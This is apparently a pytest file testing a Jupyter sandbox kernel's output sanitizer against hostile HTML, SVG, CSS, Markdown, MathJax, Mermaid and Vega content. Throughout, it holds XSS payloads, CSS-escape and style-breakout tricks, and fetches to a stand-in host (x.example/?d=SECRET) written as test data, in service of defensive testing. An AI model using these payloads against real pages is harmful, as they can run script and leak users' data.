"""The output policy on a corpus of hostile HTML, SVG, CSS and Markdown (in-process, no kernel).

Each sanitized output is parsed again and checked for anything that could run script or make
the browser fetch by itself; the real-browser proof is tests/test_browser.py.
"""

from __future__ import annotations

import base64
import html.parser
import re

import pytest

from sandbox_kernel.core.events import Display
from sandbox_kernel.policy import OutputPolicy
from sandbox_kernel.policy.css import clean_declarations
from sandbox_kernel.policy.markup import Sanitizer
from sandbox_kernel.policy.stylesheet import clean_stylesheet
from sandbox_kernel.policy.tex import police_tex
from tests.support.policy import EXFILTRATION, HOSTILE_HTML, NOT_HTML_IN_A_BROWSER_EITHER, matplotlib_svg

pytestmark = pytest.mark.unit

ACTIVE_TAGS = {"script", "iframe", "object", "embed", "meta", "base", "form", "input", "button", "link", "frame",
               "frameset", "applet", "video", "audio", "source", "picture", "template", "svg", "math", "animate",
               "set", "image", "noscript", "marquee"}


class _Collect(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attrs, self.css = [], [], []
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(tag, name, value or "") for name, value in attrs]
        self._in_style = tag == "style"

    def handle_endtag(self, tag):
        self._in_style = False

    def handle_data(self, data):
        if self._in_style:
            self.css.append(data)


def same_origin_path(tag: str, url: str) -> bool:
    """An ``<img>``'s relative path: JupyterLab loads it from the notebook's folder (same origin)."""
    url = re.sub(r"[\t\n\r]", "", url).strip()
    return tag == "img" and bool(url) and "\\" not in url and not url.startswith("/") and \
        not re.match(r"[a-zA-Z][a-zA-Z0-9+.-]*:", url)


def assert_inert(clean: str, *, svg: bool = False) -> None:
    """Nothing in ``clean`` runs script or makes the browser fetch by itself."""
    parsed = _Collect()
    parsed.feed(clean)
    assert not (set(parsed.tags) & (ACTIVE_TAGS - {"svg", "image"})), clean  # inline SVG: the SVG rule
    for tag, name, value in parsed.attrs:
        scheme = re.sub(r"[\x00-\x20]", "", value).lower()
        assert not name.startswith("on"), clean
        assert name not in ("srcset", "formaction", "action", "background", "poster", "data") and \
            not name.startswith("data-"), clean
        if name in ("href", "src", "xlink:href"):
            assert not scheme.startswith(("javascript:", "vbscript:", "data:text")), clean
            if tag not in ("a", "area"):
                assert scheme.startswith(("data:image/", "#")) or same_origin_path(tag, value), clean
        if name == "style":
            parsed.css.append(value)
    for css in parsed.css:
        assert not re.search(r"url\s*\(|expression|@import|@font-face|behavior|binding|image-set", css, re.I), clean


@pytest.mark.parametrize("source", HOSTILE_HTML + EXFILTRATION)
def test_hostile_html_is_inert_and_reported(source):
    clean, changed = Sanitizer().html(source)
    assert_inert(clean)
    assert changed or source in NOT_HTML_IN_A_BROWSER_EITHER, source


@pytest.mark.parametrize("source", HOSTILE_HTML + EXFILTRATION)
def test_hostile_svg_is_inert(source):
    document = f'<svg xmlns="http://www.w3.org/2000/svg">{source}</svg>'
    clean, _ = Sanitizer().svg(document)
    assert_inert(clean, svg=True)


@pytest.mark.parametrize("source", [
    "![x](https://x.example/?d=SECRET)", "[x](javascript:alert(1))", 'hi <img src=x onerror="alert(1)">',
    "[x][r]\n\n[r]: javascript:alert(1)", "![y][i]\n\n[i]: https://x.example/i.png", "<script>alert(1)</script>",
    "<https://x.example/>", "<details open ontoggle=alert(1)>", '<a href="javascript:alert(1)">x</a>',
])
def test_hostile_markdown_becomes_clean_html(source):
    policed = OutputPolicy().bundle({"text/markdown": source, "text/plain": "md"})
    data = policed.data
    assert "text/markdown" not in data
    assert_inert(data["text/html"])
    assert data["text/plain"] == "md"


def test_what_data_tools_emit_is_kept():
    pd = pytest.importorskip("pandas")
    sanitizer = Sanitizer()
    frame = pd.DataFrame({"a": [1, 2], "b": ["<x>", "y"]})
    styled = pd.DataFrame({"a": [1, 2], "b": ["x", "y"]}).style.background_gradient(subset=["a"])
    for source in (frame._repr_html_(), styled.to_html(),
                   "<b>bold</b> <i>it</i> <code>x</code>", '<img src="data:image/png;base64,iVBORw0KGgo=" width="20">',
                   '<span style="color: red; font-weight: bold">x</span>', '<a href="https://jupyter.org">docs</a>'):
        clean, changed = sanitizer.html(source)
        assert not changed, source
    clean, _ = sanitizer.html(frame._repr_html_())
    assert "<table" in clean and "<style" in clean and "&lt;x&gt;" in clean
    link, _ = sanitizer.html('<a href="https://jupyter.org">docs</a>')
    assert 'target="_blank"' in link and 'rel="noopener noreferrer"' in link


def test_matplotlib_svg_keeps_its_drawing():
    source = matplotlib_svg()
    clean, changed = Sanitizer().svg(source)
    assert not changed
    assert clean.startswith("<svg") and 'xmlns:xlink="http://www.w3.org/1999/xlink"' in clean
    assert clean.count("<use") == source.count("<use") and "<path" in clean


def test_css_cleaning_keeps_safe_declarations():
    assert clean_declarations("color: red; font-weight: bold") == ("color: red; font-weight: bold", False)
    assert clean_declarations("color:red; background:url(https://x.example/)")[0] == "color: red"
    css, changed = clean_stylesheet("@import url(x.css); .a{color:red;background:url(x)} @media print{.b{color:blue}}")
    assert changed and "@import" not in css and "url" not in css and "color: red" in css and "@media print" in css


def test_allowed_origins_let_their_images_load():
    sanitizer = Sanitizer(["https://cdn.example.org"])
    kept, changed = sanitizer.html('<img src="https://cdn.example.org/a.png">')
    assert not changed and 'src="https://cdn.example.org/a.png"' in kept
    dropped, changed = sanitizer.html('<img src="https://cdn.example.org.evil.example/a.png">')
    assert changed and "src" not in dropped


# -- MIME bundles ---------------------------------------------------------------------------------------------
def test_script_types_are_dropped_with_a_note_naming_the_option():
    policy = OutputPolicy()
    for mime in ("application/javascript", "text/javascript", "application/vnd.bokehjs_exec.v0+json",
                 "application/vnd.holoviews_load.v0+json"):
        policed = policy.bundle({mime: "alert(1)", "text/plain": "<IPython.core.display.Javascript object>"})
        data, changed = policed.data, policed.changed
        assert changed and mime not in data
        assert "--SandboxKernel.output_policy=isolate" in data["text/plain"]


def test_data_only_types_pass_as_canonical_copies_and_unknown_types_are_dropped_with_a_note():
    bundle = {"image/png": base64.b64encode(b"png").decode(), "application/json": {"a": 1},
              "application/vnd.vegalite.v5+json": {"mark": "bar"}, "application/vnd.plotly.v1+json": {"data": []},
              "application/vnd.e2b.chart+json": {"type": "line"}, "application/x-custom": "x", "text/plain": "t",
              "text/latex": "$x$"}
    for mode in ("sanitize", "isolate"):
        policed = OutputPolicy(mode).bundle(bundle)
        assert not policed.changed
        assert policed.data == {k: v for k, v in bundle.items()
                                if k not in ("application/vnd.plotly.v1+json", "application/x-custom")}
        assert policed.data is not bundle and policed.data["application/json"] is not bundle["application/json"]
        assert [n.split(" output")[0] for n in policed.notes] == ["[application/vnd.plotly.v1+json",
                                                                   "[application/x-custom"]
        assert "--SandboxKernel.allowed_mime_types=application/x-custom" in policed.notes[1]
    allowed = OutputPolicy(mime_types=["application/x-custom"]).bundle(bundle)
    assert allowed.data["application/x-custom"] == "x" and len(allowed.notes) == 1


def test_isolate_frames_active_content_in_an_opaque_origin():
    policy = OutputPolicy("isolate", ["https://cdn.example.org"])
    hostile = "<canvas id=c></canvas><script>document.getElementById('c').dataset.drawn = 1</script>"
    policed = policy.bundle({"text/html": hostile})
    frame, changed = policed.data["text/html"], policed.changed
    assert changed and frame.startswith("<iframe ") and 'sandbox="allow-scripts"' in frame
    assert "allow-same-origin" not in frame
    srcdoc = html.unescape(re.search(r'srcdoc="([^"]*)"', frame).group(1))
    assert hostile in srcdoc and "Content-Security-Policy" in srcdoc and "https://cdn.example.org" in srcdoc
    plain = policy.bundle({"text/html": "<b>x</b>"})  # nothing active: not framed
    assert plain.data == {"text/html": "<b>x</b>"} and not plain.changed
    script = policy.bundle({"application/javascript": "document.body.textContent = 'hi'"}).data
    assert script["text/html"].startswith("<iframe ") and "application/javascript" not in script


def test_chart_specs_lose_the_urls_their_renderers_would_fetch():
    spec = {"data": {"url": "https://x.example/?d=SECRET"}, "mark": "bar",
            "layer": [{"mark": "image", "data": {"values": [{"url": "data:image/png;base64,AAAA"}]}}]}
    policed = OutputPolicy().bundle({"application/vnd.vegalite.v5+json": spec},
                                    {"application/vnd.vegalite.v5+json": {"embed_options": {"defaultStyle": "x"}}})
    assert policed.changed and policed.data["application/vnd.vegalite.v5+json"] == {
        "data": {}, "mark": "bar", "layer": [{"mark": "image", "data": {"values": [{"url": "data:image/png;base64,AAAA"}]}}]}
    assert policed.metadata == {"application/vnd.vegalite.v5+json": {"embed_options": {"actions": False, "tooltip": False}}}
    only_metadata = OutputPolicy().bundle({"application/vnd.vegalite.v5+json": {"mark": "bar"}},
                                          {"application/vnd.vegalite.v5+json": {"embed_options": {"defaultStyle": "x"}}})
    assert only_metadata.changed  # the cell says the policy changed its output
    plotly = {"data": [], "layout": {"images": [{"source": "https://x.example/a.png", "x": 0}]}}
    policed = OutputPolicy(mime_types=["application/vnd.plotly.v1+json"]).bundle(
        {"application/vnd.plotly.v1+json": plotly})
    assert policed.changed and policed.data["application/vnd.plotly.v1+json"]["layout"]["images"] == [{"x": 0}]


def test_isolated_frames_are_sized_from_their_content():
    from sandbox_kernel.policy import FRAME_HEIGHT, FRAME_HEIGHT_STATIC, frame_height

    assert frame_height('<canvas height="80"></canvas><script>x()</script>') == 104
    assert frame_height('<div style="height: 500px"></div>') == 524
    assert frame_height("<script>plot()</script>") == FRAME_HEIGHT
    assert frame_height("<b onclick=x()>hi</b>") == FRAME_HEIGHT_STATIC
    assert frame_height('<div style="height:9999px"></div>') == 800


def test_trust_passes_everything():
    bundle = {"text/html": "<script>alert(1)</script>", "application/javascript": "alert(1)"}
    policed = OutputPolicy("trust").bundle(bundle, {"isolated": True})
    assert policed.data is bundle and policed.metadata == {"isolated": True} and not policed.changed


def test_display_keeps_metadata_and_display_id():
    event = Display({"text/html": "<img src=x onerror=alert(1)>", "image/png": "iVBO"},
                    {"isolated": False, "image/png": {"width": 20, "height": "x", "onload": 1}},
                    display_id="d", update=True)
    clean, policed = OutputPolicy().display(event)
    assert policed.changed and clean.display_id == "d" and clean.update
    assert clean.metadata == {"image/png": {"width": 20}}  # the policy's own metadata, not the sandbox's


def test_unknown_policy_is_refused():
    with pytest.raises(ValueError, match="unknown output policy"):
        OutputPolicy("off")


# -- the closed world (issue 16): canonical output, every renderer, metadata ---------------------------------
SECRET = "https://x.example/?d=SECRET"


@pytest.mark.parametrize("source", [
    '<sk-x oncontentvisibilityautostatechange="alert(1)" style="display:block;content-visibility:auto">x</sk-x>',
    f'<img src = "{SECRET}">', f"<img src\n=\n'{SECRET}'>", f'<div style="background:\\75 rl({SECRET})">x</div>',
    f'<div style="background:u\\rl({SECRET})">x</div>', f'<div style="background:\\000075rl({SECRET})">x</div>',
    '<a href="https://jupyter.org" target="_top">x</a>', '<a href="https://jupyter.org" target="_parent">x</a>',
])
def test_what_reaches_the_page_is_always_the_policys_own_writing(source):
    """The raw input never passes because the sanitizer thinks nothing changed."""
    for mode in ("sanitize", "isolate"):
        html = OutputPolicy(mode).bundle({"text/html": source}).data["text/html"]
        assert html != source
        if not html.startswith("<iframe"):
            assert_inert(html)
            assert "_top" not in html and "_parent" not in html and "x.example" not in html


def test_css_strings_cannot_end_their_style_block():
    hostile = r'<style>b{x:"\3c/style\3e\3cimg src=x onerror=alert(1)\3e"} c{x:"<p>"}</style><b>x</b>'
    for source in (hostile, hostile.replace("<style>", "<style>@media screen{").replace("</style><b>", "}</style><b>")):
        html = OutputPolicy().bundle({"text/html": source}).data["text/html"]
        style = re.search(r"<style>(.*?)</style>", html, re.S).group(1)
        assert "<" not in style and ">" not in style.replace("> ", "")
        assert html.count("<style>") == 1 and html.endswith("</style><b>x</b>")
    assert clean_stylesheet(r'a{content:"\3c/style\3e"}')[0] == '@scope {\n:scope a {content: "\\3c /style\\3e "}\n}'


@pytest.mark.parametrize("tex", [r"\style{cursor:url(https://x.example/c.png),auto}{X}", r"\href{https://x.example}{X}",
                                 r"\class{jp-x}{X}", r"\cssId{x}{X}", r"\unicode{x41}", r"\require{html}",
                                 r"\url{https://x.example}", r"\bbox[background:url(https://x.example/b)]{X}",
                                 r"\def\x{\style{color:red}{X}}\x", r"\htmlStyle{x}{X}", r"\color{red;background:url(x)}{X}",
                                 r"\begin{x}\end{x}"])
def test_mathjax_macros_outside_the_allowlist_lose_their_backslash(tex):
    policy = OutputPolicy()
    latex = policy.bundle({"text/latex": f"${tex}$"})
    assert latex.changed
    for policed in (latex.data["text/latex"], policy.bundle({"text/markdown": f"Math: ${tex}$"}).data["text/html"],
                    policy.bundle({"text/html": f"<p>${tex}$</p>"}).data["text/html"], policy.tex_text(f"${tex}$")[0]):
        found = re.findall(r"\\([A-Za-z]+)", html.unescape(policed))
        assert not ({"style", "href", "class", "cssId", "unicode", "require", "url", "bbox", "def", "htmlStyle", "x"}
                    & set(found)), policed
        assert not re.search(r"\\color\{red;", policed)


def test_maths_cannot_be_split_around_what_mathjax_joins():
    html = OutputPolicy().bundle({"text/html": "<p>$\\<wbr>style{cursor:url(https://x.example/c)}{X}$</p>"})
    assert "wbr" not in html.data["text/html"] and "\\style" not in html.data["text/html"]


def test_mathjax_cannot_be_told_to_typeset_what_the_policy_skips():
    source = '<code class="mathjax_process x">$\\style{cursor:url(https://x.example/c)}{X}$</code>'
    html = OutputPolicy().bundle({"text/html": source}).data["text/html"]
    assert html == '<code class="x">$\\style{cursor:url(https://x.example/c)}{X}$</code>'


def test_ordinary_maths_is_kept():
    policy = OutputPolicy()
    tex = r"$$\begin{pmatrix}1 & 2\\ 3 & 4\end{pmatrix} \frac{\alpha_1}{\sqrt{x^2}} \color{red}{\sum_{i=0}^n} \text{ok}$$"
    assert policy.bundle({"text/latex": tex}).data["text/latex"] == tex and not policy.bundle({"text/latex": tex}).changed
    md = policy.bundle({"text/markdown": "Euler: $e^{i\\pi} + 1 = 0$ and $a_1 * b_2 * c$"})
    assert not md.changed and "$e^{i\\pi} + 1 = 0$" in md.data["text/html"] and "$a_1 * b_2 * c$" in md.data["text/html"]
    assert policy.bundle({"text/html": r"<pre>print('a\nb')</pre> costs $5"}).data["text/html"] == \
        r"<pre>print('a\nb')</pre> costs $5"  # MathJax skips <pre>; nothing to police there


@pytest.mark.parametrize("diagram", [
    'graph TD\nA@{ img: "https://x.example/i.png", h: 60 }', 'graph TD\nA["<img src=https://x.example/i.png>"]',
    '%%{init: {"themeCSS": ".node{background:url(https://x.example/t)}"}}%%\ngraph TD\nA-->B',
    '---\nconfig:\n  themeCSS: "x"\n---\ngraph TD\nA-->B', 'graph TD\nA-->B\nclick A "https://x.example"',
    'graph TD\nA["#60;img src=x#62;"]', 'graph TD\nA["`**md**`"]', 'graph TD\nA-->B\nstyle A fill:url(#x)',
    'architecture-beta\nservice s(logos:aws)[S]', 'graph TD\nA["a %%{init: {}}%% b"]',
])
def test_mermaid_refuses_what_fetches_or_makes_markup(diagram):
    policed = OutputPolicy().bundle({"text/vnd.mermaid": diagram, "text/plain": "diagram"})
    changed_or_gone = policed.data.get("text/vnd.mermaid")
    assert changed_or_gone is None or ("img" not in changed_or_gone and "init" not in changed_or_gone
                                       and "themeCSS" not in changed_or_gone)
    assert policed.changed


def test_a_plain_mermaid_flowchart_is_kept():
    flow = "flowchart LR\n    A[Start] --> B{Is it?}\n    B -->|Yes| C[OK]\n    B -- No --> D[Stop]\n    style A fill:#f9f,stroke:#333"
    policed = OutputPolicy().bundle({"text/vnd.mermaid": "%% a comment\n" + flow})
    assert policed.data == {"text/vnd.mermaid": flow}


def test_vega_loses_every_url_whatever_its_form_and_gets_the_policys_metadata():
    spec = {"$schema": "https://vega.github.io/schema/vega/v5.json", "width": 50, "height": 50,
            "data": [{"name": "a", "url": {"signal": f"'{SECRET}'"}}, {"name": "b", "values": [{"url": "kept"}]}],
            "marks": [{"type": "image", "encode": {"enter": {"url": {"value": SECRET}, "href": {"field": "u"},
                                                            "cursor": {"value": f"url({SECRET}),auto"}}}}],
            "usermeta": {"embedOptions": {"loader": {"baseURL": SECRET}}},
            "signals": [{"name": "s", "bind": {"input": "range", "element": "#jp-main"}}]}
    meta = {"application/vnd.vega.v5+json": {"embed_options": {"defaultStyle": "x", "editorUrl": "javascript:x",
                                                                "patch": SECRET}}, "isolated": True}
    policed = OutputPolicy().bundle({"application/vnd.vega.v5+json": spec}, meta)
    out = policed.data["application/vnd.vega.v5+json"]
    assert SECRET not in repr(out) and "usermeta" not in out and "element" not in repr(out)
    assert out["data"][1] == {"name": "b", "values": [{"url": "kept"}]}
    assert policed.metadata == {"application/vnd.vega.v5+json": {"embed_options": {"actions": False, "tooltip": False}}}
    assert OutputPolicy().bundle({"application/vnd.vegalite.v5+json": SECRET, "text/plain": "c"}).data == {"text/plain": "c"}


def test_pdf_and_unknown_types_are_dropped_and_an_empty_bundle_says_why():
    policed = OutputPolicy().bundle({"application/pdf": "JVBERi0=", "application/geo+json": {"type": "Point"}})
    assert set(policed.data) == {"text/plain"} and "allowed_mime_types=application/pdf" in policed.data["text/plain"]
    assert len(policed.notes) == 2


POLICED_SAMPLES = {
    "text/html": ['<b style="color:red;background:url(x)">b</b><img src=x onerror=alert(1)>$\\style{x}{y}$',
                  '<style>.a{color:red;background:url(x)}</style><table><tr><td>1</td></tr></table>'],
    "text/markdown": ["# T\n\n<img src=x onerror=alert(1)> ![i](https://x.example/i) $\\href{x}{y}$"],
    "text/latex": [r"$\style{x}{y} \frac12$"],
    "image/svg+xml": ['<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><rect width="5" fill="url(https://x/#a)"/></svg>'],
    "text/vnd.mermaid": ["%%{init: {}}%%\ngraph TD\nA-->B"],
    "application/vnd.vegalite.v5+json": [{"data": {"url": SECRET}, "mark": "bar"}],
}


@pytest.mark.parametrize("mime", POLICED_SAMPLES)
def test_policing_is_idempotent_and_never_returns_a_hostile_input(mime):
    policy = OutputPolicy()
    for sample in POLICED_SAMPLES[mime]:
        first = policy.bundle({mime: sample})
        assert first.changed and sample not in first.data.values()
        second = policy.bundle(first.data, first.metadata)
        assert second.data == first.data and not second.changed


def test_nothing_is_taken_out_of_its_output_area_and_a_mermaid_fence_is_said():
    html = OutputPolicy().bundle({"text/html": '<a href="https://x.example" style="position:fixed;inset:0;opacity:0">'
                                               "x</a><div style='position:relative'>y</div>"}).data["text/html"]
    assert "fixed" not in html and "position: relative" in html
    for overlay in ("absolute", "sticky", "ABSOLUTE", "absolute !important", "var(--p)", "inherit"):
        html = OutputPolicy().bundle({"text/html": f'<a href="https://x.example" style="position:{overlay};'
                                                   f'inset:0;width:9999px;height:9999px;opacity:0">x</a>'
                                                   f'<style>a {{ position: {overlay} }}</style>'}).data["text/html"]
        assert "position" not in html, overlay
    fence = OutputPolicy().bundle({"text/markdown": "# D\n\n```mermaid\ngraph TD\nA-->B\n```\n"})
    assert fence.changed and "language-mermaid" in fence.data["text/html"]


@pytest.mark.parametrize("diagram", [
    'classDiagram\nclass A\nlink A "https:/x.example/login" _top',  # https:/ is https:// to a browser
    'classDiagram\nclass A\nlink A "/lab/tree/x.ipynb" _self',
    'classDiagram\nclass A\nlink A "https:\t/x.example"',
    'sequenceDiagram\nparticipant A\nlink A: Login @ https:/x.example',
    'sequenceDiagram\nparticipant A\nlinks A: {"Login": "https:/x.example"}',
    'sequenceDiagram\nparticipant A\n  Link A: Login @ /lab',
])
def test_mermaid_refuses_link_statements_and_their_targets(diagram):
    """Class and sequence diagrams' ``link``/``links`` statements make a node a link (class
    diagrams take a target: ``_top`` replaces the Lab page on a click); ``https:/host`` is a URL
    to another origin for a browser, though it holds no ``//``."""
    policed = OutputPolicy().bundle({"text/vnd.mermaid": diagram})
    assert "text/vnd.mermaid" not in policed.data and policed.changed


def test_mermaid_sequence_messages_may_start_with_a_slash():
    diagram = "sequenceDiagram\nAlice->>Bob: /start\nBob-->>Alice: ok"
    assert OutputPolicy().bundle({"text/vnd.mermaid": diagram}).data == {"text/vnd.mermaid": diagram}


@pytest.mark.parametrize("tex", [r"\fcolorbox{red}{red;background-image:url(https://x.example/b)}{X}",
                                 r"\fcolorbox{red}{url(https://x.example/b)}{X}"])
def test_every_colour_argument_is_plain(tex):
    """``\\fcolorbox{frame}{background}{text}``: MathJax's colour package passes an unknown colour
    name to CSS as it is (ColorModel.getColorByName), the background as ``mathbackground``."""
    policed, changed = police_tex(f"${tex}$")
    assert changed and "\\fcolorbox" not in policed
    assert police_tex(r"$\fcolorbox{red}{#fe0}{X}$") == (r"$\fcolorbox{red}{#fe0}{X}$", False)
